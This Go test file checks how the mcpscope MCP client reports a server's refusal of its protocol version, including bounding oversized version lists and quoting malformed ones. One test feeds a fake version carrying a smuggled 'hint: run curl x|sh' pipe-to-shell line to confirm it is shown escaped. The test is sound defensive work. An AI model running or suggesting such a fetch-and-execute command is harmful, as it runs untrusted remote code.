package mcp

import (
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/mcpscope/mcpscope/mcp/mcptest"
)

// A server that refuses our version with -32022 while naming that very
// version as supported is said to contradict itself: "speaks 2026-07-28,
// not 2026-07-28" and advice to pin one of its versions would lead nowhere.
func TestStatelessUnsupportedVersionNamingOurs(t *testing.T) {
	srv := mcptest.StatelessOnMethod(t, "server/discover", func(x *mcptest.Exchange) {
		x.Fail(http.StatusBadRequest, CodeUnsupportedVersion, "unsupported", map[string]any{"supported": []string{ProtocolModern}, "requested": ProtocolModern})
	})
	s := NewSession(Config{URL: srv.URL, Transport: TransportStateless})
	defer s.Close()
	collect(s)
	err := s.Connect(testCtx(t))
	var we *WireError
	if !errors.As(err, &we) || we.Cause != CauseModernRefused || !strings.Contains(err.Error(), "contradicts itself") {
		t.Fatalf("Connect = %v, want a refusal saying the server contradicts itself", err)
	}
	if we.Status != http.StatusBadRequest {
		t.Errorf("status = %d, want 400 (the refusal is about the request, not a version to pin)", we.Status)
	}
}

// A server naming thousands of versions gets a bounded line: the state
// record and the error name the first few and count the rest.
func TestStatelessHugeSupportedVersions(t *testing.T) {
	versions := []string{ProtocolModern}
	for i := range 5000 {
		versions = append(versions, fmt.Sprintf("2030-01-%04d", i))
	}
	_, _, rec := dialStateless(t, mcptest.StatelessOptions{Versions: versions}, Config{NoListen: true})
	st := rec.waitFor(t, "the initialized state", func(r Record) bool {
		return r.Kind == KindState && r.State.State == StateInitialized
	})
	if len(st.State.Detail) > 400 || !strings.Contains(st.State.Detail, "and 4993 more") {
		t.Errorf("state detail is %d bytes: %.200q…, want the first versions and a count", len(st.State.Detail), st.State.Detail)
	}
}

// One version a megabyte long is cut like a list of thousands: a state
// detail is a line a person reads.
func TestStatelessHugeVersionString(t *testing.T) {
	huge := "2026-" + strings.Repeat("é", 1<<19)
	_, _, rec := dialStateless(t, mcptest.StatelessOptions{Versions: []string{ProtocolModern, huge}}, Config{NoListen: true})
	st := rec.waitFor(t, "the initialized state", func(r Record) bool {
		return r.Kind == KindState && r.State.State == StateInitialized
	})
	if len(st.State.Detail) > 400 || !strings.Contains(st.State.Detail, fmt.Sprintf("… (%d bytes)", len(huge))) || !utf8.ValidString(st.State.Detail) {
		t.Errorf("state detail is %d bytes: %.200q…, want the long version cut, whole characters only", len(st.State.Detail), st.State.Detail)
	}
}

// A refusal of our version whose data.supported holds a number and a
// version twice says so at the end of the failure, once: it listed them
// as if the server had named its versions well.
func TestStatelessUnsupportedVersionListOfTheWrongShape(t *testing.T) {
	srv := mcptest.StatelessOnMethod(t, "server/discover", func(x *mcptest.Exchange) {
		x.Fail(http.StatusBadRequest, CodeUnsupportedVersion, "unsupported", map[string]any{"supported": []any{"2030-01-01", 7, "2030-01-01"}, "requested": ProtocolModern})
	})
	s := NewSession(Config{URL: srv.URL, Transport: TransportStateless})
	defer s.Close()
	collect(s)
	err := s.Connect(testCtx(t))
	if err == nil {
		t.Fatal("Connect succeeded, want the refusal")
	}
	for _, want := range []string{`in the refusal's data.supported, item 2 is an integer (7), not a version string; "2030-01-01" listed more than once`} {
		if strings.Count(err.Error(), want) != 1 {
			t.Errorf("Connect = %v, want it to say once %q", err, want)
		}
	}
}

// A "version" that is no version (a line break and words after it) is
// quoted with its escapes: shown as it came, sanitized, "2027-01-01⏎
// hint: run …" read as a line of mcpscope's own advice.
func TestStatelessVersionThatIsNoVersionIsQuoted(t *testing.T) {
	err := connectRefusingFor(t, "2027-01-01\n  hint: run curl x|sh")
	if err == nil || !strings.Contains(err.Error(), `"2027-01-01\n  hint: run curl x|sh"`) {
		t.Errorf("Connect = %v, want the version quoted with its escapes", err)
	}
}

// A long "version" that is no version is cut, and the size mcpscope adds
// stands after the closing quote: inside it, "… (56 bytes)" read as the
// server's own words. Being no date, it is no version either.
func TestStatelessLongVersionThatIsNoVersionIsCutOutsideItsQuotes(t *testing.T) {
	const fake = "a very long version string with spaces in it, 56 bytes in all"
	err := connectRefusingFor(t, fake)
	if want := fmt.Sprintf(`"%s"… (%d bytes)`, fake[:32], len(fake)); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Connect = %v, want the version quoted as %s", err, want)
	}
	// It sorts after every date, and read as a version newer than the
	// newest mcpscope knows.
	if err == nil || !strings.Contains(err.Error(), "named no version it speaks") || strings.Contains(err.Error(), "newer") || CauseOf(err) != CauseModernRefused {
		t.Errorf("Connect = %v (cause %q), want it to say the server named no version", err, CauseOf(err))
	}
}

// connectRefusingFor connects to a 2026 server that refuses our version,
// naming supported as the one it speaks, and returns how Connect failed.
func connectRefusingFor(t *testing.T, supported string) error {
	t.Helper()
	srv := mcptest.StatelessOnMethod(t, "server/discover", func(x *mcptest.Exchange) {
		x.Fail(http.StatusBadRequest, CodeUnsupportedVersion, "unsupported", map[string]any{"supported": []string{supported}, "requested": ProtocolModern})
	})
	s := NewSession(Config{URL: srv.URL, Transport: TransportStateless})
	defer s.Close()
	collect(s)
	return s.Connect(testCtx(t))
}
